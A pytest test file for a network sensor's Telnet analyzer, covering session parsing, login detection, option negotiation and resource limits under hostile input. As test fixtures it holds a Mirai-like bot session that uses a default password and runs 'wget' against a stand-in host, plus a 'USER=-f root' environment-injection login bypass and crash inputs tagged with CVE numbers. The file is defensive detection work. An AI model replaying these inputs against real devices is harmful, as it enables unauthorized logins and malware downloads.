"""The analyzer as a whole: what is Telnet, what a session was like, however its octets were cut."""

from __future__ import annotations

import time

import pytest

from fuzz.targets.telnet import STATE_BYTES_MAX, kept
from sensor.ecs.protocol_fields import PROTOCOL_ACTIONS, PROTOCOL_EVENT_FIELDS, PROTOCOL_FIELDS
from sensor.protocols.analyzer import CLIENT, SERVER, Moment
from sensor.protocols.secrets import Secrets
from sensor.protocols.telnet.analyzer import BANNER_MAX, QUIET_NS, UNPROVEN_MAX, TelnetAnalyzer
from tests.telnet_story import CLOSED, KEY, LATE, LOGIN, OFFERS, story

ANSWERS = ">\xff\xfb\x18\xff\xfb\x1f\xff\xfd\x01\xff\xfd\x03\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
TYPE = ">\xff\xfa\x18\x00xterm\xff\xf0\xff\xfa\x27\x00\x00USER\x01ann\x03LANG\x01C\xff\xf0"
SESSION = (OFFERS, ANSWERS, TYPE, "<Debian 12\r\nbox login: ", *LOGIN[1:],
           "<\r\nLast login: x\r\n# ", ">w\r\n", "<w\r\nx\r\n# ", ">exit\r\n", "<exit\r\n")


def test_a_session() -> None:
    told = story(*SESSION)
    assert [event.action for event in told.events] == [
        "telnet_login", "telnet_command", "telnet_command", "telnet_session"]  # fmt: skip
    assert told.session == {
        "event.category": ["session", "network"], "event.type": ["end"], "user.name": "root",
        "related.user": ["root"], "telnet.terminal.type": "xterm", "telnet.terminal.columns": 80,
        "telnet.terminal.rows": 24, "telnet.environment.names": ["USER", "LANG"],
        "telnet.environment.user": "ann", "telnet.negotiated": True, "telnet.mode": "character",
        "telnet.echo": True, "telnet.banner": "Debian 12", "telnet.login.attempts": 1,
        "telnet.login.failures": 0, "telnet.login.outcome": "success",
        "telnet.login.evidence": "success_text",
        "telnet.login.text": "Last login: x", "telnet.command.count": 2,
        "telnet.command.lines": ["w", "exit"],
    }  # fmt: skip
    assert all(event.is_proven and event.secret == "" for event in told.events)


@pytest.mark.parametrize("first", ["Debian 12\r\n", ""])
def test_the_echo_of_a_name_is_no_banner(first: str) -> None:
    """It comes after the name where a client sends whole lines, and again in the next round."""
    told = story(OFFERS, f"<{first}login: ", ">root\r\n", "<root\r\nPassword: ", ">pw-1\r\n",
                 "<\r\nLogin incorrect\r\nlogin: ", ">ann\r\n", "<ann\r\nPassword: ", ">pw-2\r\n",
                 "<\r\n# ", CLOSED)  # fmt: skip
    assert told.session.get("telnet.banner") == (first.strip() or None)


@pytest.mark.parametrize("size", [1, 100])
def test_erasing_as_the_first_thing(size: int) -> None:
    told = story(">\xff\xf7\xff\xf8abc", size=size)
    assert told.exploits == [("CVE-2022-39028", "attempt")]
    assert story(">a\xff\xf7", size=size).events == []


@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_however_it_is_cut(size: int) -> None:
    assert story(*SESSION, size=size).events == story(*SESSION).events


def test_only_known_fields_and_actions() -> None:
    names = {field.name for field in (*PROTOCOL_EVENT_FIELDS, *PROTOCOL_FIELDS["telnet"])}
    for event in story(*SESSION).events:
        assert event.fields.keys() <= names
        assert event.action in PROTOCOL_ACTIONS["telnet"]


@pytest.mark.parametrize("reveal", [False, True])
def test_passwords_beside_an_event_only_if_wanted(reveal: bool) -> None:
    analyzer = TelnetAnalyzer(Secrets(KEY, reveal=reveal))
    for number, piece in enumerate((*LOGIN, "<\r\nLast login: x\r\n"), 1):
        side = SERVER if piece[0] == "<" else CLIENT
        analyzer.feed(side, piece[1:].encode(), Moment(number * 10**9, number))
    (login,) = analyzer.take()
    assert login.secret == ("pw-1" if reveal else "")
    assert "pw-1" not in repr(login.fields)


def test_a_dialogue_without_options() -> None:
    told = story(*LOGIN, "<\r\nLast login: x\r\n# ")
    assert told.session["telnet.negotiated"] is False
    assert "telnet.mode" not in told.session
    assert not any(event.is_proven for event in told.events)


@pytest.mark.parametrize("pieces", [
    (">SSH-2.0-x\r\n", "<SSH-2.0-y\r\nlogin: "),
    (">GET / HTTP/1.1\r\nHost: a\r\n\r\n", "<HTTP/1.1 401 x\r\n\r\nlogin: "),
    (">\x16\x03\x01\x02\x00", "<\x16\x03\x03login: "),
    ("<RFB 003.008\n", ">RFB 003.008\n"),
    ("<220 ftp ready\r\n", ">USER ann\r\n", "<331 Password required.\r\n", ">PASS Hidden-1\r\n"),
    ("<!\"#$%&'()*+,-./0123456789\r\n" * 20,), ("<kernel: eth0 up\r\n" * 20,),
    (">" + "\x00\x01\xff\xfb\x02" * 1,), ("<\xff\xfd\x18",), ("<",), (">\r\n",),
])
def test_nothing_is_told_of_other_protocols(pieces: tuple[str, ...]) -> None:
    assert story(*pieces).events == []


@pytest.mark.parametrize("side", [CLIENT, SERVER])
def test_it_gives_up_on_what_is_none(side: int) -> None:
    analyzer = TelnetAnalyzer(Secrets(KEY))
    analyzer.feed(side, b"x" * UNPROVEN_MAX, Moment(1, 1))
    assert not analyzer.done
    analyzer.feed(side, b"x", Moment(2, 2))
    assert analyzer.done
    analyzer.close(Moment(3))
    assert analyzer.take() == []


def test_it_waits_for_the_server_to_be_quiet() -> None:
    analyzer = TelnetAnalyzer(Secrets(KEY))
    analyzer.feed(SERVER, b"login: ", Moment(1000, 1))
    assert analyzer.due_ns == 1000 + QUIET_NS
    analyzer.expire()
    assert analyzer.due_ns == 0
    analyzer.feed(CLIENT, b"ann\r\n", Moment(2000, 2))
    assert analyzer.due_ns == 0


def test_a_mark_ends_the_wait() -> None:
    analyzer = TelnetAnalyzer(Secrets(KEY))
    for number, octets in enumerate((b"login: \xff\xf9", b"extra"), 1):
        analyzer.feed(SERVER, octets, Moment(number, number))
    analyzer.feed(CLIENT, b"ann\r\n", Moment(10**9, 3))
    analyzer.close(Moment(10**9 + 1))
    assert [event.fields["user.name"] for event in analyzer.take()] == ["ann", "ann"]


@pytest.mark.parametrize("size", [1, 100, 5000])
def test_binary_is_none_and_negotiation_is_not_binary(size: int) -> None:
    told = story("<" + "\x02\x03abcdef" * 40, "<\r\nlogin: ", ">ann\r\n", size=size)
    assert told.events == []
    told = story(">\xff\xfa\x22\x03" + "\x13\x02\x03" * 60 + "\xff\xf0", size=size)
    assert told.exploits == [("CVE-2026-32746", "attempt")]


def test_a_client_that_refuses_characters_sends_lines() -> None:
    told = story(OFFERS, ">\xff\xfe\x01\xff\xfe\x03\xff\xfc\x18\xff\xfc\x1f", "<login: ")
    assert told.session["telnet.mode"] == "line"


@pytest.mark.parametrize(("offers", "mode"), [
    (OFFERS, "character"), ("<\xff\xfd\x18\xff\xfd\x1f", "line"),
    (OFFERS + "\xff\xfa\x22\x01\x01\xff\xf0", "line"), ("<\xff\xfb\x01\xff\xfd\x1f", "line"),
])
def test_modes(offers: str, mode: str) -> None:
    assert story(offers, "<login: ").session["telnet.mode"] == mode


def test_the_wrong_side_first() -> None:
    analyzer = TelnetAnalyzer(Secrets(KEY))
    analyzer.feed(CLIENT, b"login: ", Moment(1, 1))
    analyzer.turn()
    analyzer.gap(CLIENT, 0, Moment(1, 1))
    for number, piece in enumerate((*LOGIN, "<\r\nLogin incorrect\r\nlogin: "), 2):
        side = SERVER if piece[0] == "<" else CLIENT
        analyzer.feed(side, piece[1:].encode(), Moment(number * 10**9, number))
    analyzer.close(Moment(10**11))
    login, session = analyzer.take()
    assert (login.fields["telnet.login.outcome"], login.fields["user.name"]) == ("failure", "root")
    assert session.fields["telnet.login.failures"] == 1


@pytest.mark.parametrize("offers", [(), (OFFERS,)])
def test_a_console_that_is_woken_by_a_key(offers: tuple[str, ...]) -> None:
    told = story(*offers, ">\r\n", "<\r\nlogin: ", ">ann\r\n", "<Password: ", ">pw-1\r\n",
                 "<\r\n$ ")  # fmt: skip
    assert told.logins == [("success", "shell_prompt", "ann")]


def test_behind_a_proxy() -> None:
    told = story(">CONNECT inner:23 HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\n\r\n", *SESSION)
    assert told.session["telnet.proxy.destination"] == "inner:23"
    assert told.logins == [("success", "success_text", "root")]


def test_block_terminals() -> None:
    told = story("<\xff\xfd\x18", ">\xff\xfb\x18\xff\xfa\x18\x00IBM-3278-2-E\xff\xf0",
                 "<\xff\xfd\x19\xff\xfb\x19\xff\xfd\x00\xff\xfb\x00",
                 ">\xff\xfb\x19\xff\xfd\x19\xff\xfb\x00\xff\xfd\x00",
                 "<\x05\xc3\x11\x40\xc1\xff\xef")  # fmt: skip
    assert told.session["telnet.kind"] == "tn3270"
    assert told.session["telnet.login.outcome"] == "unknown"


def test_a_bot() -> None:
    told = story("<\xff\xfd\x1f", ">\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0", "<login: ",
                 ">root\r\n", "<Password: ", ">xc3511\r\n", "<\r\n# ", ">enable\r\n",
                 ">system\r\n", ">shell\r\n", ">sh\r\n", ">/bin/busybox ECCHI\r\n",
                 "<ECCHI: applet not found\r\n# ", ">wget http://192.0.2.9/m\r\n",
                 "<# ")  # fmt: skip
    assert told.session["telnet.bot"] == "mirai_like"
    assert told.session["telnet.client.kind"] == "mirai"
    assert told.of("telnet_login")[0]["telnet.password.is_default"] is True
    assert told.of("telnet_command")[-1]["telnet.transfer.url"] == "http://192.0.2.9/m"


def test_fields_of_an_attack() -> None:
    told = story(OFFERS, ">\xff\xfa\x27\x00\x00USER\x01-f ro\x1bot\xff\xf0", "<# ")
    attempt, bypass = told.of("telnet_exploit")
    assert attempt == {
        "event.category": ["intrusion_detection", "network"], "event.type": ["info"],
        "telnet.exploit.name": "user_argument_injection", "telnet.exploit.outcome": "attempt",
        "telnet.exploit.evidence": "USER=-f ro\\x1bot", "vulnerability.id": "CVE-2026-24061",
        "user.name": "ro\\x1bot", "related.user": ["ro\\x1bot"],
    }  # fmt: skip
    assert (bypass["event.type"], bypass["telnet.exploit.outcome"]) == (["allowed"], "bypass")
    (login,) = told.of("telnet_login")
    assert (login["event.outcome"], login["telnet.login.method"]) == ("success", "environment")


def test_texts_are_harmless_and_bounded() -> None:
    told = story(
        OFFERS, "<\x9b31m" + "b" * 3000 + "\r\nlogin: ", ">ro\x16\x07ot\r\n", "<Password: ",
        ">pw-1\r\n", "<\r\nLogin incorrect \x9b2J" + "x" * 500 + "\r\nlogin: ")  # fmt: skip
    (login,) = told.of("telnet_login")
    assert login["user.name"] == "ro\\x07ot"
    assert login["telnet.login.text"].startswith("Login incorrect \\x9b2J")
    assert len(login["telnet.login.text"]) == 80
    assert len(told.session["telnet.banner"]) == BANNER_MAX


def test_late_and_silent_connections_are_no_sessions() -> None:
    assert story(LATE, "<x\r\n", ">y\r\n").events == []


@pytest.mark.parametrize("octets", [
    b"\xff" * 50_000, b"\xff\xfa\x27" * 20_000, b"\x1b[" * 30_000, b"password:" * 8_000,
    b"\r\n" * 30_000, b"login: \r\n" * 6_000, b"x" * 100_000, b"a\r" * 30_000, b"\x1b]0;" * 20_000,
    b"\x1b[9999@" * 9_000 + b"\r\n", b"* mysql " * 9_000 + b"\r\n", b"\xff\xf6" * 30_000,
    b"\xff\xfa\x18\0x\xff\xf0" * 9_000, b"a-" * 40_000 + b"\r\n", b"password " * 9_000 + b"\r\n",
    b"\xff\xfa\x27\0" + b"\0A\1b" * 900 + b"\xff\xf0", b"$ \b" * 30_000, b"\t" * 90_000,
    (b"a-" * 2_000 + b"\r\n") * 25, (b"curl -u " * 500 + b"\r\n") * 25,
    b"\xff\xfa\x27\0" + b"\0LD_" * 900 + b"\xff\xf0",
    b"".join(b"\xff\xfa\x27\0\0LD_%d\1" % number + b"x" * 4000 + b"\xff\xf0"
             for number in range(40)),
    b"".join(b"%d" % number + "\u5bc6".encode() * 340 + b"\r\n" for number in range(90)),
    b"\x1b[A" * 30_000, b"\x1b[A\r\n" * 9_000, b"\x05\1\0" * 9_000, b"CONNECT x" * 9_000,
    (b"mysql " * 600 + b"\r\n") * 25, (b"a://" * 1_000 + b"\r\n") * 25,
])
@pytest.mark.parametrize("side", [CLIENT, SERVER])
@pytest.mark.parametrize("is_in", [False, True])
def test_hostile_octets_cost_little(octets: bytes, side: int, is_in: bool) -> None:
    analyzer = TelnetAnalyzer(Secrets(KEY))
    start = (OFFERS, ANSWERS, *(LOGIN if is_in else ()), *(["<\r\nLast login: x\r\n# "] * is_in))
    for number, piece in enumerate(start):
        whose = SERVER if piece[0] == "<" else CLIENT
        analyzer.feed(whose, piece[1:].encode("latin-1"), Moment(number * 10**9, number))
    began, told = time.process_time(), len(analyzer.take())
    for at in range(0, len(octets), 1000):
        analyzer.feed(side, octets[at : at + 1000], Moment(10**11 + at, 99))
        analyzer.expire()
        told += len(analyzer.take())
    assert kept(analyzer, set()) < STATE_BYTES_MAX
    analyzer.close(Moment(10**12))
    assert time.process_time() - began < 1
    assert told + len(analyzer.take()) < 300
